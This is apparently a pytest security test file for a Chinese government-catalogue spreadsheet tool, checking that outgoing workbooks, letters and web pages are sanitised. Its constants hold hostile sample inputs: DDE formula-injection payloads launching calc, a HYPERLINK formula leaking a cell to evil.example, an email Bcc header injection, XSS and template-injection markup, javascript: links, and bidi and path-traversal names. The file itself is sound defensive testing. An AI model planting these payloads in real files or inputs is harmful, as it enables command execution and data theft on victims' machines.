"""Every file that leaves the office, made of a master in which everything is hostile, looked at part by part."""

from __future__ import annotations

import email
import email.policy
import getpass
import io
import os
import platform
import re
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path

import openpyxl
import pytest

from catalogue_xl.workbook.master.master import Master
from catalogue_xl.workbook.sheets.text_cells import looks_like_formula
from hazards.office import fill_in

pytestmark = pytest.mark.slow

FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"预算")',
)
BIDI, TWIN = "区\u202e财政局\u202c", "区⺠政局"
PATHS, HEADERS = "../../区教育局", "区水务局\r\nBcc: evil@evil.example"
MARKUP = '<script>alert(1)</script>"><img src=x onerror=alert(1)>&{{7*7}}{% raw %}'
AUTHOR, REMARK, CONTACT = "制表人某某", "内部备注某某", "联系人某某"
DAY = date.today()
_ACTIVE = re.compile(r"vba|externalLink|activeX|embeddings|connections|oleObject", re.IGNORECASE)
EVIL = ("cmd|", "SUM(1+1)", "evil.example")


def hostile_master(folder: Path) -> Path:
    master = Master.create(folder / "目录.xlsx", title=f"../目录{MARKUP}", region="示例区", year=DAY.year)
    for number, agency in enumerate((BIDI, TWIN, PATHS, HEADERS.replace("\r\n", " "), "区审计局", "=1+1", "@SUM(1+1)")):
        contact = {"liaison": CONTACT, "liaison_phone": f"0571-1234{number}", "email": f"a{number}@example.org"}
        master.table("agencies").append({"name": agency, **contact})
        item = {"id": f"SX000{number + 1}", "agency": agency, "level1": FORMULAS[number], "level2": MARKUP}
        texts = {"content": FORMULAS[number], "basis": "javascript:alert(1)", "notes": REMARK, "channel": FORMULAS[1]}
        master.table("items").append({**item, **texts, "deadline": "每月5日前"})
    master.table("publications").append(
        {"item": "SX0005", "agency": "区审计局", "title": FORMULAS[1], "link": "javascript:alert(1)"}
    )
    master.save()
    book = openpyxl.load_workbook(master.path)
    book.properties.creator = book.properties.lastModifiedBy = AUTHOR
    book.save(master.path)
    return master.path


def run(folder: Path, *words: str) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "catalogue_xl", *words],
        cwd=folder, capture_output=True, encoding="utf-8", env={**os.environ, "PYTHONUTF8": "1"}, check=False,
    )  # fmt: skip
    assert done.returncode in (0, 1), done.stdout + done.stderr
    assert "程序出错" not in done.stderr


@pytest.fixture(scope="module")
def outgoing(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder with all that goes out, below 发出."""
    folder = tmp_path_factory.mktemp("制表人的文件夹") / "office"
    out = folder / "发出"
    out.mkdir(parents=True)
    master = hostile_master(folder)
    before = {path for path in folder.parent.rglob("*") if out not in path.parents}
    due = (DAY + timedelta(days=9)).isoformat()
    run(folder, "distribute", master.name, "-o", "发出/任务表", "--notice", "--due", due)
    run(folder, "mail", master.name, "发出/任务表", "--ics")
    sent = sorted((out / "任务表").glob("*.xlsx"))
    (folder / "报回").mkdir()
    book = openpyxl.load_workbook(sent[0])
    fill_in(sent[0], folder / "报回" / "1.xlsx")
    book = openpyxl.load_workbook(folder / "报回" / "1.xlsx")
    (cell,) = [one for row in book["任务清单"].iter_rows() for one in row if one.value == "已公开"]
    cell.value, cell.data_type = "=cmd|'/C calc'!A0", "s"
    book.properties.lastModifiedBy = AUTHOR
    book.save(folder / "报回" / "1.xlsx")
    run(folder, "merge", master.name, "报回/1.xlsx", "--return-lists", "发出/退回")
    run(folder, "remind", master.name, "-o", "发出/催办")
    run(folder, "remind", master.name, "-o", "发出/函", "--kind", "docx", "--force")
    run(folder, "publish", master.name, "-o", "发出/发布")
    run(folder, "export", master.name, "-o", "发出/目录.json")
    stray = {path for path in folder.parent.rglob("*") if out not in path.parents} - before
    assert {path.name for path in stray} <= {"报回", "1.xlsx", "备份"} | {p.name for p in (folder / "备份").glob("*")}
    return out


def files(outgoing: Path, *suffixes: str) -> list[Path]:
    found = [path for path in sorted(outgoing.rglob("*")) if path.is_file() and path.suffix in suffixes]
    assert found, suffixes
    return found


def packages(outgoing: Path) -> Iterator[tuple[str, zipfile.ZipFile]]:
    """Each workbook and document, also those in letters."""
    for path in files(outgoing, ".xlsx", ".docx"):
        yield path.name, zipfile.ZipFile(path)
    for path in files(outgoing, ".eml"):
        for part in letter(path).iter_attachments():
            if (part.get_filename() or "").endswith((".xlsx", ".docx")):
                content = part.get_payload(decode=True)
                assert isinstance(content, bytes)
                yield f"{path.name}: {part.get_filename()}", zipfile.ZipFile(io.BytesIO(content))


def letter(path: Path) -> email.message.EmailMessage:
    message = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
    assert isinstance(message, email.message.EmailMessage)
    return message


def texts(outgoing: Path) -> Iterator[tuple[str, str]]:
    """All that stands in any file, by file and part."""
    for name, package in packages(outgoing):
        for part in package.namelist():
            yield f"{name}!{part}", package.read(part).decode("utf-8", "ignore")
    for path in files(outgoing, ".html", ".csv", ".json", ".txt", ".ics", ".eml"):
        if path.suffix != ".eml":
            yield path.name, path.read_text("utf-8-sig")
            continue
        for part in letter(path).walk():
            if part.get_content_maintype() == "text":
                yield f"{path.name}!{part.get_content_type()}", part.get_content()
        yield f"{path.name}!headers", str(letter(path).items())


def it_makes_each_kind_of_file(outgoing: Path) -> None:
    kinds = {path.suffix for path in outgoing.rglob("*") if path.is_file()}
    assert kinds >= {".xlsx", ".docx", ".eml", ".html", ".csv", ".json", ".txt"}


def it_computes_nothing_that_a_stranger_wrote(outgoing: Path) -> None:
    for name, package in packages(outgoing):
        for part in package.namelist():
            if part.startswith("xl/") and part.endswith(".xml"):
                xml = package.read(part).decode()
                formulas = re.findall(r"<(?:\w+:)?(?:f|formula|formula[12])\b[^>]*>([^<]*)<", xml)
                formulas += re.findall(r"<definedName\b[^>]*>([^<]*)<", xml)
                assert [one for one in formulas if any(word in one for word in EVIL)] == [], f"{name}!{part}"


def it_marks_what_a_csv_would_compute(outgoing: Path) -> None:
    import csv

    for path in files(outgoing, ".csv"):
        for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"))):
            assert [cell for cell in row if len(cell) > 1 and looks_like_formula(cell)] == []


def it_links_to_nothing_outside_and_brings_no_macros(outgoing: Path) -> None:
    for name, package in packages(outgoing):
        for part in package.namelist():
            assert not re.search(r"vba|externalLink|activeX|embeddings|connections|oleObject", part, re.IGNORECASE), (
                name
            )
            if part.endswith(".rels"):
                targets = re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"', package.read(part).decode())
                assert targets == [], f"{name}!{part}"


def it_tells_no_author_and_no_place(outgoing: Path) -> None:
    computer = [platform.node(), getpass.getuser(), str(Path.home())]
    words = [AUTHOR, "制表人的文件夹", *(word for word in computer if len(word) > 4)]
    for name, text in texts(outgoing):
        assert [word for word in words if word in text] == [], name


def it_keeps_contacts_and_remarks_out_of_what_is_published(outgoing: Path) -> None:
    published = outgoing / "发布"
    for name, text in texts_of(published):
        assert [word for word in (CONTACT, "0571-1234", "@example.org", REMARK) if word in text] == [], name


def texts_of(folder: Path) -> Iterator[tuple[str, str]]:
    for path in sorted(folder.iterdir()):
        if path.suffix in (".xlsx", ".docx"):
            package = zipfile.ZipFile(path)
            for part in package.namelist():
                yield f"{path.name}!{part}", package.read(part).decode("utf-8", "ignore")
        elif path.suffix != ".pdf":
            yield path.name, path.read_text("utf-8-sig")


def it_gives_an_agency_the_contacts_of_no_other(outgoing: Path) -> None:
    for path in files(outgoing / "任务表", ".xlsx"):
        package = zipfile.ZipFile(path)
        whole = "".join(package.read(part).decode("utf-8", "ignore") for part in package.namelist())
        assert len(set(re.findall(r"a\d@example\.org", whole))) <= 1


def it_executes_no_markup(outgoing: Path) -> None:
    for name, text in texts(outgoing):
        if name.endswith((".html", "text/html")):
            assert "<img src=x" not in text, name
            assert "<script>alert(1)" not in text, name
            assert not re.search(r"""(?:href|src)\s*=\s*["']?\s*javascript:""", text, re.IGNORECASE), name
        assert "{{7*7}}" in text or "onerror" not in text, name


def it_writes_one_header_for_each_and_to_nobody_else(outgoing: Path) -> None:
    for path in files(outgoing, ".eml"):
        message = letter(path)
        assert message["Bcc"] is None
        assert "evil.example" not in str(message["To"])
        assert re.fullmatch(r"[^\r\n]*", str(message["Subject"]))
        assert message.defects == []


def it_names_files_so_that_they_stay_in_their_folder_and_are_read_as_they_are(outgoing: Path) -> None:
    names = [path.name for path in outgoing.rglob("*")]
    names += [str(part.get_filename()) for path in files(outgoing, ".eml") for part in letter(path).iter_attachments()]
    for name in names:
        assert not re.search(r"[\u202a-\u202e\u2066-\u2069\u200b-\u200f\x00-\x1f/\\\\]", name), ascii(name)
        assert not name.startswith((".", "=", "+", "@", "-")), name
